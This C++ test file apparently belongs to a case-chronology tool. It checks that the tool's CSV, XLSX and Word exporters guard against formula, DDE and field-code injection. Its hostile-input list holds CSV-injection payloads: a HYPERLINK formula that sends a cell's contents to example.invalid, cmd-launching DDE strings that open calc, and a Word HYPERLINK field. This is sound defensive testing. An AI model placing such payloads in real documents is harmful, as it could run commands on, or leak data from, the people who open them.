// No live formulas: CSV cells that a spreadsheet would run are guarded with an apostrophe that
// Sightline's reader takes off again; the XLSX and Word writers write text, never a formula or a
// field code, whatever the text.
#include <gtest/gtest.h>

#include <regex>

#include "csv_tokenizer.hpp"
#include "docx_document.hpp"
#include "sightline/engine/merge.hpp"
#include "sightline/formats/case_reader.hpp"
#include "sightline/formats/chronology_writer.hpp"
#include "sightline/formats/xlsx_writer.hpp"
#include "support/temp_dir.hpp"
#include "support/zip_builder.hpp"

using namespace sightline;
using namespace sightline::engine;
using sightline::test::read_zip_part;
using sightline::test::TempDir;

namespace {

// Texts a spreadsheet or Word would run if they were written as they are.
const std::vector<std::string>& hostile() {
    static const std::vector<std::string> texts = {
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tindented =1",
        "\rreturn",
        "=1,2 \"quoted\"",
        "-",
        "{ HYPERLINK \"http://example.invalid\" }",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
        "'=already guarded",
        "plain text = not a formula",
    };
    return texts;
}

// A case whose entries' summaries, refs and people are the hostile texts.
Case hostile_case(const TempDir& dir) {
    std::string yaml = "sightline: 1\ncase: {title: F, index_children: [a]}\npeople: [{id: a, name: Ann}]\n"
                       "agencies: [{name: North Police, kind: police, area: North}]\nentries:\n";
    for (std::size_t i = 0; i < hostile().size(); ++i) {
        std::string quoted;
        for (char ch : hostile()[i]) {
            if (ch == '"' || ch == '\\') quoted += '\\';
            if (ch == '\t') quoted += "\\t";
            else if (ch == '\r') quoted += "\\r";
            else quoted += ch;
        }
        yaml += "  - {agency: North Police, date: 2015-06-" + std::string(i + 1 < 10 ? "0" : "") + std::to_string(i + 1) +
                ", type: home_visit, summary: \"" + quoted + "\", ref: \"" + quoted + "\"}\n";
    }
    dir.write("case.yaml", yaml);
    Case c = formats::load_case(dir.path());
    EXPECT_FALSE(c.diagnostics.has_errors());
    return c;
}

std::vector<std::vector<std::string>> tokenize(std::string text) {
    formats::detail::CsvTokenizer t(text.data(), text.size(), ',');
    std::vector<std::vector<std::string>> rows;
    formats::detail::SheetRow row;
    while (t.next(row, true)) {
        rows.emplace_back();
        for (const formats::detail::SheetCell& cell : row.cells) rows.back().emplace_back(cell.text);
    }
    return rows;
}

TEST(FormulaSafety, CsvCellsThatLookLikeFormulasAreGuarded) {
    TempDir dir;
    const Case c = hostile_case(dir);
    std::string csv;
    formats::write_chronology_csv(c, csv);
    for (const std::string& text : {std::string("=HYPERLINK"), std::string("+1+cmd"), std::string("@SUM"), std::string("-2+3")}) {
        const std::size_t at = csv.find(text);
        ASSERT_NE(at, std::string::npos) << text;
        const char before = csv[at - 1];
        EXPECT_EQ(before, '\'') << text << " is not guarded";
    }
    // No cell starts with a formula's first character (after a comma, or a comma and a quote);
    // ",\r\n" is an empty last cell.
    for (const std::string bad : {",=", ",+", ",-", ",@", ",\t", ",\r", ",\"=", ",\"+", ",\"-", ",\"@", ",\"\t", ",\"\r"})
        for (std::size_t at = 0; (at = csv.find(bad, at)) != std::string::npos; ++at)
            EXPECT_TRUE(bad == ",\r" && csv[at + 2] == '\n') << "a cell starts with byte " << static_cast<int>(bad.back()) << " at " << at;
    EXPECT_NE(csv.find("plain text = not a formula"), std::string::npos);
}

TEST(FormulaSafety, SightlinesCsvReaderReadsGuardedCellsBackAsWritten) {
    TempDir dir;
    const Case c = hostile_case(dir);
    std::string csv;
    formats::write_chronology_csv(c, csv);
    const auto rows = tokenize(csv);
    ASSERT_EQ(rows.size(), hostile().size() + 1);
    std::vector<std::string> summaries, refs;
    for (std::size_t r = 1; r < rows.size(); ++r) {
        summaries.push_back(rows[r][5]);
        refs.push_back(rows[r][10]);
    }
    std::vector<std::string> expected;
    for (const Entry& e : c.chronology.entries) expected.emplace_back(e.summary);
    EXPECT_EQ(summaries, expected);
    std::vector<std::string> expected_refs;
    for (const Entry& e : c.chronology.entries) expected_refs.emplace_back(e.ref);
    EXPECT_EQ(refs, expected_refs);
}

TEST(FormulaSafety, RawCsvWritesCellsAsTheyAre) {
    TempDir dir;
    const Case c = hostile_case(dir);
    std::string csv;
    formats::write_chronology_csv(c, csv, formats::CsvFormulas::Raw);
    EXPECT_NE(csv.find(",\"=HYPERLINK("), std::string::npos);
    EXPECT_NE(csv.find(",-2+3,"), std::string::npos);
    EXPECT_EQ(csv.find("'=HYPERLINK"), std::string::npos);
}

TEST(FormulaSafety, XlsxHoldsTextNeverAFormula) {
    TempDir dir;
    const Case c = hostile_case(dir);
    const std::string path = dir.file("out.xlsx");
    Diagnostics warnings;
    formats::write_chronology_xlsx(c, path, warnings);
    const std::string sheet = read_zip_part(path, "xl/worksheets/sheet1.xml");
    ASSERT_FALSE(sheet.empty());
    EXPECT_FALSE(std::regex_search(sheet, std::regex("<f[ >/]"))) << "a formula in the sheet";
    // Every cell with a value is a string (shared or inline), never a number or a formula result.
    EXPECT_FALSE(std::regex_search(sheet, std::regex("t=\"(str|e)\""))) << "a formula result in the sheet";
    // Written as inline strings (constant memory) or shared ones.
    const std::string strings = sheet + read_zip_part(path, "xl/sharedStrings.xml");
    EXPECT_NE(strings.find("=HYPERLINK("), std::string::npos);
    EXPECT_NE(strings.find("DDEAUTO"), std::string::npos);
}

TEST(FormulaSafety, WordDocumentsHoldTextNeverAFieldCode) {
    TempDir dir;
    formats::detail::WordDocument doc(true);
    formats::detail::DocumentTable table;
    table.header = {"What happened?", "Ref"};
    table.widths = {3, 1};
    for (const std::string& text : hostile()) {
        doc.heading(text, 2);
        doc.paragraph(text);
        doc.bullet(text);
        table.rows.push_back({text, text});
    }
    doc.table(table);
    const std::string path = dir.file("out.docx");
    doc.save(path);
    const std::string xml = read_zip_part(path, "word/document.xml");
    ASSERT_FALSE(xml.empty());
    for (const char* field : {"<w:fldSimple", "<w:instrText", "<w:fldChar", "<w:hyperlink", "<w:object", "<w:dde"})
        EXPECT_EQ(xml.find(field), std::string::npos) << field;
    EXPECT_NE(xml.find("{ HYPERLINK &quot;http://example.invalid&quot; }"), std::string::npos);
}

}  // namespace
